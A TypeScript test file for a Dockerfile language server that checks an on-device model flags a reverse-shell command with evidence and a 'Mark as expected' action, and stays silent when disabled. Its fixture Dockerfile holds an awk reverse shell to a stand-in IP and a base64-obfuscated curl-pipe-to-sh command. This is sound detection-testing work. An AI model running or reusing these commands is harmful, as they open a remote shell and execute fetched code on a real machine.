/**
 * The language server runs the shipped model in its worker after the rules: the first diagnostics
 * come at once, the model's arrive with the next publish, with evidence; "Mark as expected" offers
 * the reasoned comment; `drydock.model.enabled: false` gives rules only.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { TestServer, codes, untitledUri } from '../lsp/harness';

const DOCKERFILE =
  'FROM alpine:3.22\n' +
  `RUN awk 'BEGIN {s = "/inet/tcp/0/198.51.100.23/4242"; while (1) { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } }' /dev/null\n` +
  'CMD ["sh", "-c", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | sh"]\n';

describe('language server and the on-device model', { timeout: 60_000 }, () => {
  it('publishes model findings with evidence after the rules, and offers "Mark as expected"', async () => {
    const server = await TestServer.start();
    try {
      const uri = untitledUri();
      const first = await server.open(uri, DOCKERFILE);
      assert.ok(!codes(first).some((c) => c.startsWith('model/')), 'rules are published without waiting for the model');
      const later = await server.waitForDiagnostics(uri, (p) => p.diagnostics.some((d) => d.code === 'model/reverse-shell'));
      const reverse = later.diagnostics.find((d) => d.code === 'model/reverse-shell')!;
      assert.match(String(reverse.message), /Suspicious RUN command: it looks like a reverse or bind shell \(T1059\.004; model score/);
      assert.equal(reverse.range.start.line, 1);
      const finding = (reverse.data as { finding: { evidence?: string } }).finding;
      assert.match(finding.evidence ?? '', /tokens: .*score .* by drydock-cmd-risk/);
      const actions = await server.codeActions(uri, [reverse]);
      const mark = actions.find((a) => a.title === 'Mark as expected (model/reverse-shell)');
      assert.ok(mark, actions.map((a) => a.title).join(', '));
      assert.equal(mark.command?.command, 'drydock.recordModelFeedback');
    } finally {
      await server.stop();
    }
  });

  it('gives rules only when the model is turned off', async () => {
    const server = await TestServer.start({ settings: { model: { enabled: false } } });
    try {
      const uri = untitledUri();
      await server.open(uri, DOCKERFILE);
      await new Promise((resolve) => setTimeout(resolve, 1500));
      const all = server.published.filter((p) => p.uri === uri).flatMap((p) => p.diagnostics);
      assert.deepEqual(all.filter((d) => String(d.code).startsWith('model/')), []);
    } finally {
      await server.stop();
    }
  });
});
